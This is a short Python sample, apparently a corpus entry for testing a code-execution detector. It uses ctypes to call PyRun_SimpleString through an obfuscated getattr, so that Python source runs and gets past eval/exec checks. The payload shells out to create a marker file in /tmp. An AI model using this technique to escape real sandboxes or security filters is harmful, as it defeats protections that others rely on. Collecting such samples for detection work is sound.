# corpus: ctypes.pythonapi.PyRun_SimpleString runs Python source through the C API, bypassing eval/exec checks
import ctypes

api = ctypes.pythonapi
runner = getattr(api, "PyRun_" + "SimpleString")
runner.argtypes = [ctypes.c_char_p]
runner(b"import os; os.system('touch /tmp/.pwned')")
